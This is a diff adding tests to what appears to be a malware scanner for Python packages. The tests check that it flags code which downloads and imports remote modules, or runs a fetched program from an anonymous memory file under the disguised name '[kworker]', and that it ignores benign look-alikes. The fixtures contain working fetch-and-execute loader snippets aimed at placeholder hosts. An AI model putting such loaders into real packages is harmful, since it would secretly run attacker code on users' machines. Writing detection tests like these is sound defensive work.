@@ -89,3 +89,71 @@ test('a download behind aliases, a helper function and a path put together is fo
 
   expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', path: 'pkg/__init__.py', line: 11 }]);
 });
+
+test.each([
+  [
+    'a zip',
+    "path = tempfile.mktemp('.zip')",
+    "urllib.request.urlretrieve('https://files.tools.invalid/a.zip', path)",
+    'sys.path.insert(0, path)',
+    'import stage',
+  ],
+  [
+    'a repository',
+    'from dulwich import porcelain',
+    "porcelain.clone('https://code.tools.invalid/x.git', '/tmp/.cfg', depth=1)",
+    "sys.path.insert(0, '/tmp/.cfg')",
+    'import bootstrap',
+  ],
+])('%s that is fetched and put where imports look is malware', async (_what, ...lines) => {
+  const file = wheel({ 'pkg/__init__.py': python('import sys, tempfile, urllib.request', ...lines) });
+
+  expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 10, line: 4 }]);
+});
+
+test('a bootstrap that fetches its build tool from the index stays below quarantine', async () => {
+  const file = sdist({
+    'setup.py': python(
+      'import os, sys, urllib.request',
+      "egg = os.path.join(os.curdir, 'setuptools-0.6c11-py2.7.egg')",
+      "urllib.request.urlretrieve('https://files.pythonhosted.org/packages/setuptools-0.6c11-py2.7.egg', egg)",
+      'sys.path.insert(0, egg)',
+      'from setuptools import setup',
+      "setup(name='example')",
+    ),
+  });
+
+  expect((await inspect('dropper', file)).every((finding) => finding.score < 5)).toBe(true);
+});
+
+test.each(['os.memfd_create("kworker")', 'ctypes.CDLL(None).syscall(319, b"kworker", 1)'])(
+  'a program that is fetched into %s and started from there is malware, even on call',
+  async (made) => {
+    const file = wheel({
+      'pkg/__init__.py': python(
+        'import ctypes, os, urllib.request',
+        'def roots(f):',
+        "    program = urllib.request.urlopen('https://files.tools.invalid/m').read()",
+        `    descriptor = ${made}`,
+        '    os.write(descriptor, program)',
+        '    os.execve("/proc/self/fd/%d" % descriptor, ["[kworker]"], {})',
+      ),
+    });
+
+    expect(await inspect('dropper', file)).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 6 }]);
+  },
+);
+
+test('an anonymous file that holds data for a child process stays silent', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import os, subprocess',
+      'def show(picture):',
+      '    descriptor = os.memfd_create("picture")',
+      '    os.write(descriptor, picture)',
+      "    subprocess.run(['feh', '-'], stdin=descriptor)",
+    ),
+  });
+
+  expect(await inspect('dropper', file)).toEqual([]);
+});
